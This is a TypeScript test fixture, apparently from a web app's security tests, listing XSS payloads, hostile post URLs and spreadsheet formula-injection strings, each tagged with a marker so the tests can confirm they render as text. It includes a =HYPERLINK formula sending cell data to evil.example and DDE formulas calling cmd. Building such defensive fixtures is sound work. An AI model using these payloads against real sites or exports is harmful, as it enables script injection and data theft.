/**
 * The XSS catalogue: classic payloads, each carrying a unique marker (XSS01 …)
 * so a test can tell that the payload reached the page (as text) and not only
 * that nothing bad happened. Every payload that would run script sets
 * `window.__pwned` (the browser tests' canary) or opens a dialog; every one that
 * would load something points at evil.example (the browser tests' foreign origin).
 */
export interface Payload {
  id: string;
  text: string;
}

const RAW: string[] = [
  `<script>window.__pwned=1;alert("XSS01")</script>`,
  `<img src=x onerror="window.__pwned=1;alert('XSS02')">`,
  `<svg onload=window.__pwned=1//XSS03>`,
  `<svg><script>window.__pwned=1</script>XSS04</svg>`,
  `javascript:window.__pwned=1//XSS05`,
  `"><script>window.__pwned=1</script>XSS06`,
  `'><img src=x onerror=window.__pwned=1>XSS07`,
  `" onmouseover="window.__pwned=1" x="XSS08`,
  `' autofocus onfocus='window.__pwned=1' x='XSS09`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a template-literal breakout
  "${alert('XSS10')}`;window.__pwned=1;//",
  `</script><script>window.__pwned=1</script>XSS11`,
  `<!--<script>window.__pwned=1</script>XSS12-->`,
  `<iframe src="javascript:window.top.__pwned=1">XSS13</iframe>`,
  `<a href="javascript:window.__pwned=1">XSS14</a>`,
  `<div style="width:expression(window.__pwned=1)">XSS15</div>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+ XSS16`,
  `\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e XSS17`,
  `&lt;script&gt;window.__pwned=1&lt;/script&gt; XSS18`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>XSS19`,
  `<base href="https://evil.example/">XSS20`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">XSS21`,
  `<link rel=stylesheet href=https://evil.example/x.css>XSS22`,
  `<img src="https://evil.example/pixel.png">XSS23`,
  `<object data="javascript:window.__pwned=1">XSS24</object>`,
  `<body onload=window.__pwned=1>XSS25`,
  `<details open ontoggle=window.__pwned=1>XSS26</details>`,
  `<<script>script>window.__pwned=1<</script>/script>XSS27`,
  `%3Cscript%3Ewindow.__pwned=1%3C/script%3E XSS28`,
  `＜script＞window.__pwned=1＜/script＞ XSS29`,
  `\u202E<img src=x onerror=window.__pwned=1>XSS30\u202C`,
  `<style>@import "https://evil.example/x.css";</style>XSS31`,
  `vbscript:msgbox("XSS32")`,
  `<x-pwn id=XSS33 onclick=window.__pwned=1>x</x-pwn>`,
  `]]></x><script>window.__pwned=1</script>XSS34`,
  `=HYPERLINK("https://evil.example/?d="&A1,"XSS35")`,
  `@SUM(1+1)*cmd|' /C calc'!A0 XSS36`,
  `<form action="https://evil.example/"><button>XSS37</button></form>`,
  `{{constructor.constructor('window.__pwned=1')()}} XSS38`,
];

export const PAYLOADS: Payload[] = RAW.map((text, i) => ({
  id: `XSS${String(i + 1).padStart(2, "0")}`,
  text,
}));

/** Values for post URLs: none may become a link (only http(s) may). */
export const HOSTILE_URLS = [
  "javascript:window.__pwned=1//XSSU1",
  "JaVaScRiPt:window.__pwned=1//XSSU2",
  " javascript:window.__pwned=1//XSSU3",
  "java\tscript:window.__pwned=1//XSSU4",
  "data:text/html,<script>window.__pwned=1</script>XSSU5",
  "vbscript:msgbox(1)//XSSU6",
  "//evil.example/XSSU7",
  'https://ok.example/"><script>window.__pwned=1</script>XSSU8',
  "https://ok.example/' onmouseover='window.__pwned=1' XSSU9",
];

/** Formula starts a spreadsheet would evaluate (CSV and XLSX exports). */
export const FORMULAS = [
  "=1+1 XSSF1",
  "+1+1 XSSF2",
  "-1+1 XSSF3",
  "@SUM(1) XSSF4",
  "\t=1+1 XSSF5",
  "\r=1+1 XSSF6",
  "＝1+1 XSSF7",
  `=cmd|' /C calc'!A0 XSSF8`,
];

/** The markers (XSS01 …) found in a text. */
export function markersIn(text: string): Set<string> {
  return new Set(text.match(/XSS(?:\d\d|U\d|F\d)/g) ?? []);
}
